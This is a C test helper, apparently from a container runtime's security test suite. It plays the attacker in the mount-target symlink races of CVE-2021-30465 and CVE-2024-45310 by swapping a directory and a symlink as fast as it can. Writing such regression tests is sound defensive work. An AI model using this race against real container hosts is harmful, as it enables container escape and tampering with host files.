/* swap-race: the attacker of the mount-target races (CVE-2021-30465,
 * CVE-2024-45310), for tests/bats/security.bats. Plays a process sharing a
 * volume with a container that is starting: it swaps DIR/NAME between a
 * directory and a symlink to TARGET as fast as it can (renameat2
 * RENAME_EXCHANGE, so NAME always exists and is one or the other), until
 * the file STOP appears, then prints how many swaps it made.
 * Usage: swap-race DIR NAME TARGET STOP */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char alt[4096];
	if (argc != 5) {
		fprintf(stderr, "usage: swap-race DIR NAME TARGET STOP\n");
		return 2;
	}
	int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	snprintf(alt, sizeof(alt), ".%s.alt", argv[2]);
	if (dir < 0 || mkdirat(dir, argv[2], 0755) < 0 || symlinkat(argv[3], dir, alt) < 0) {
		perror("swap-race: set up");
		return 1;
	}
	unsigned long swaps = 0;
	for (;;) {
		if (renameat2(dir, alt, dir, argv[2], RENAME_EXCHANGE) < 0) {
			perror("swap-race: renameat2");
			return 1;
		}
		swaps++;
		if (swaps % 256 == 0 && access(argv[4], F_OK) == 0)
			break;
	}
	printf("%lu\n", swaps);
	return 0;
}
